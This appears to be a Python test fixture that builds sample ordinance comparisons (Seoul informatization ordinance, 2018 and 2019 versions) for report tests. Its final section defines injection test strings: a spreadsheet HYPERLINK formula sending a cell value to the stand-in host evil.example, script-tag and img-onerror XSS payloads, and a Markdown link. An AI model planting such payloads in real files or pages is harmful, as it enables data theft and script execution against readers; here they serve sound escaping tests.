"""Hand-built Documents and Comparisons for report tests (no reader, no aligner needed).

Texts are copied from the bundled Seoul ordinance (2018 -> 2019); the pairs
are the ones a reader of both versions finds (old Article 34 "Promotion of
Narrowing of Digital Divide" -> new Article 20 "Closing Digital Divide", ...).
Word diffs come from ``diffing.worddiff.diff_texts``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from itertools import zip_longest

from corpus.model import AddendaBlock, Article, Note, Span, Version
from diffing.model import AddendaLink, ChangeKind, Comparison, Pair, Row, TextDiff, UnitRef
from diffing.worddiff import diff_texts
from tests import factory


@dataclass
class _Spans:
    """Distinct dummy spans, so every node has its own place."""

    next: int = 0

    def __call__(self, length: int = 1) -> Span:
        span = Span(source=0, start=self.next, end=self.next + length)
        self.next += length
        return span


SPANS = _Spans()


def note(raw: str, target: str = "") -> Note:
    return factory.note(raw, target=target, span=SPANS(len(raw)))


@dataclass
class Art:
    """An article as units: ``[(label, text, notes), ...]``; label ``""`` is the lead."""

    number: str
    title: str
    units: list[tuple[str, str, list[str]]]
    notes: list[str] = field(default_factory=list)

    def build(self) -> Article:
        lead = next((t for label, t, _ in self.units if label == ""), "")
        paragraphs = [
            factory.provision(label, text, notes=[note(n, label) for n in notes], span=SPANS(len(text)))
            for label, text, notes in self.units
            if label
        ]
        body = "\n".join(f"{label} {text}".strip() for label, text, _ in self.units)
        return factory.make_article(
            self.number,
            self.title,
            lead=lead,
            paragraphs=paragraphs,
            notes=[note(n) for n in self.notes],
            status="in_force",
            text=body,
            span=SPANS(len(body)),
        )

    def unit_refs(self) -> list[UnitRef]:
        art = self.build()
        provisions = iter(art.paragraphs)
        return [
            factory.unit(art, next(provisions) if label else None, notes=[note(n, label) for n in notes])
            for label, _, notes in self.units
        ]


def block(
    heading: str, number: str | None, date: str | None, articles: list[tuple[str, str, str]]
) -> AddendaBlock:
    arts = [
        factory.addenda_article(n, t, body, omitted=body == "", span=SPANS(len(body)))
        for n, t, body in articles
    ]
    text = "\n".join(
        f"Article {n} ({t})\n{body}" if t else f"Article {n} {body or 'Omitted.'}" for n, t, body in articles
    )
    return factory.block(number, arts, heading=heading, date=date, text=text, span=SPANS(len(text)))


def version(
    label: str, title: str, number: str, date: str, arts: list[Art], addenda: list[AddendaBlock]
) -> Version:
    return factory.make_version(
        [a.build() for a in arts],
        label=label,
        title=title,
        number=number,
        date=date,
        addenda=addenda,
        work="seoul",
        key=label,
    )


def _row(old: UnitRef | None, new: UnitRef | None, moved: str = "") -> Row:
    diff: TextDiff = diff_texts(old.text if old else "", new.text if new else "")
    same = sum(len("".join(diff.old_tokens[i1:i2])) for t, i1, i2, _, _ in diff.opcodes if t == "equal")
    total = max(len(diff.old_text), len(diff.new_text), 1)
    return factory.row(old, new, diff=diff, score=same / total, moved=moved)


def pair(
    old: list[Art],
    new: list[Art],
    change: ChangeKind,
    score: float,
    addenda: tuple[AddendaLink, ...] = (),
    reason: str = "",
) -> Pair:
    old_units = [u for a in old for u in a.unit_refs()]
    new_units = [u for a in new for u in a.unit_refs()]
    rows = tuple(_row(o, n) for o, n in zip_longest(old_units, new_units))
    return factory.pair(
        [a.build() for a in old],
        [a.build() for a in new],
        change,
        score,
        rows,
        addenda=addenda,
        reason=reason,
        renumbered=bool(old and new and old[0].number != new[0].number),
        modified=change != "unchanged" and any(r.diff.changed for r in rows),
    )


# ---------------------------------------------------------------- the Seoul sample

OLD_34 = Art(
    "34",
    "Promotion of Narrowing of Digital Divide",
    [
        (
            "(1)",
            "The Mayor shall establish policies necessary for every "
            "citizen to have easy access to information "
            "and communications services and make good use of information.",
            [],
        ),
        (
            "(2)",
            "The Mayor may promote the following to narrow the digital divide:\n"
            "4. The conduct of education necessary for narrowing the digital divide;\n"
            "5. Other matters necessary for narrowing the digital divide.",
            ["<Amended by Ordinance No. 5527, Aug. 1, 2013>"],
        ),
    ],
)
NEW_20 = Art(
    "20",
    "Closing Digital Divide",
    [
        (
            "(1)",
            "The Mayor shall formulate necessary policies to ensure that "
            "all citizens have easy access to, and "
            "benefit from the use of, information communications services.",
            [],
        ),
        (
            "(2)",
            "The Mayor may promote the following to close the digital divide:\n"
            "3. Provide education necessary to close the digital divide;\n"
            "4. Other matters necessary for closing the digital divide.",
            [],
        ),
    ],
)
OLD_6 = Art(
    "6",
    "Formulation and Execution of Informatization Implementation Plan",
    [
        (
            "(1)",
            "The Mayor shall formulate and execute an informatization implementation plan of the Seoul "
            "Metropolitan Government (hereinafter referred to as "
            '"implementation plan") each year according to '
            "a master plan after deliberation by the Committee.",
            ["<Amended by Ordinance No. 6487, May 18, 2017>"],
        ),
        (
            "(2)",
            "The Mayor shall first secure funds necessary for the execution of an implementation plan.",
            [],
        ),
    ],
)
NEW_6 = Art(
    "6",
    "Formulation and Execution of Implementation Plans",
    [
        (
            "(1)",
            "The Mayor shall formulate and execute an implementation "
            "plan for the smart city and informatization "
            "of the Seoul Metropolitan Government every year in accordance with a master plan (hereinafter "
            'referred to as "implementation plan").',
            [],
        ),
        (
            "(2)",
            "The Mayor shall give priority to securing financial "
            "resources necessary to execute an implementation "
            "plan.",
            [],
        ),
    ],
)
OLD_5_2 = Art(
    "5-2",
    "Reflecting Informatization Plan, etc.",
    [
        (
            "(2)",
            "The size, etc. of the large-scale investment project, for "
            "which the informatization plan shall be "
            "formulated under paragraph (1), shall be prescribed by rule.",
            [],
        )
    ],
    notes=["[This Article Newly Inserted by Ordinance No. 5527, Aug. 1, 2013]"],
)
NEW_23 = Art(
    "23",
    "Registration of Copyrights",
    [
        (
            "",
            "The Mayor shall register programs, content, and other "
            "matters requiring copyright protection under "
            "relevant regulations; and shall take measures to protect them.",
            [],
        )
    ],
)
OLD_25 = Art(
    "25",
    "Registration of Copyright",
    [
        (
            "",
            "The Mayor shall register programs, various content, etc. "
            "that require protection by copyright, and "
            "take measures for the protection thereof in accordance with the relevant provisions.",
            [],
        )
    ],
)
NEW_10 = Art(
    "10",
    "Participation by Citizens and Private-Public Partnership",
    [
        (
            "(1)",
            "The Mayor shall share how the policy is being promoted and "
            "encourage active participation by citizens.",
            [],
        )
    ],
)

OLD_ADDENDA = [
    block(
        "ADDENDA",
        None,
        None,
        [
            (
                "1",
                "Enforcement Date",
                "This Ordinance shall enter into force on the date of its promulgation.",
            ),
            ("5", "", ""),
        ],
    ),
    block(
        "ADDENDA <Ordinance No. 5527, Aug.1, 2013>",
        "5527",
        "2013-08-01",
        [
            (
                "2",
                "Applicability to Reflecting Informatization Plan, etc.",
                "The amended provisions of Article 5-2 shall apply beginning "
                "with the formulation of the first "
                "informatization plan for the relevant investment project "
                "after this Ordinance enters into force.",
            )
        ],
    ),
]
NEW_ADDENDA = [
    block(
        "ADDENDA",
        None,
        None,
        [
            (
                "1",
                "Enforcement Date",
                "This Ordinance shall enter into force on the date of its promulgation.",
            ),
            (
                "2",
                "Repeal of Ordinance of the Seoul Metropolitan Government",
                "The Seoul Metropolitan Government Ordinance on Ubiquitous "
                "City Construction Projects shall hereby "
                "be repealed.",
            ),
        ],
    )
]

OLD_LABEL = "Ordinance No. 6851, Mar. 22, 2018 (Amendment of Other Laws)"
NEW_LABEL = "Ordinance No. 7026, Mar. 28, 2019 (Whole Amendment)"
TITLE = "SEOUL METROPOLITAN GOVERNMENT FRAMEWORK ORDINANCE ON INFORMATIZATION"


def comparison(extra_old: list[Art] | None = None, extra_new: list[Art] | None = None) -> Comparison:
    """The Seoul sample; ``extra_*`` articles are appended and paired 1:1 as ``modified``."""
    extra_old = extra_old or []
    extra_new = extra_new or []
    olds = [OLD_6, OLD_25, OLD_34, OLD_5_2, *extra_old]
    news = [NEW_6, NEW_10, NEW_20, NEW_23, *extra_new]
    old = version(OLD_LABEL, TITLE, "6851", "2018-03-22", olds, OLD_ADDENDA)
    new_title = "SEOUL METROPOLITAN GOVERNMENT FRAMEWORK ORDINANCE ON SMART CITY AND INFORMATIZATION"
    new = version(NEW_LABEL, new_title, "7026", "2019-03-28", news, NEW_ADDENDA)
    doc = factory.make_document(old, new, name="seoul-sample", title=TITLE, source="page.txt")
    pairs = [
        pair([OLD_6], [NEW_6], "modified", 0.62),
        pair([], [NEW_10], "added", 0.0),
        pair([OLD_34], [NEW_20], "renumbered", 0.55, reason="same subject: digital divide"),
        pair([OLD_25], [NEW_23], "renumbered", 0.71),
        pair(
            [OLD_5_2],
            [],
            "deleted",
            0.0,
            addenda=(factory.link("old", "5527", "2", "The amended provisions of Article 5-2"),),
        ),
        *(pair([o], [n], "modified", 0.5) for o, n in zip(extra_old, extra_new, strict=True)),
    ]
    return factory.comparison(doc, pairs)


INJECTION_TITLE = '=HYPERLINK("http://evil.example/","<script>alert(1)</script>")'
INJECTION_TEXT = (
    '=HYPERLINK("http://evil.example/?q="&A1,"x") <script>alert("x")</script> | *b* [l](http://evil.example)'
)


def injection_comparison() -> Comparison:
    """The Seoul sample plus an article whose title and text try HTML, formula and Markdown injection."""
    old = Art("41", INJECTION_TITLE, [("", INJECTION_TEXT, ["<img src=x onerror=alert(1)>"])])
    new = Art("41", INJECTION_TITLE, [("", INJECTION_TEXT + " changed <b>bold</b>", [])])
    return comparison([old], [new])
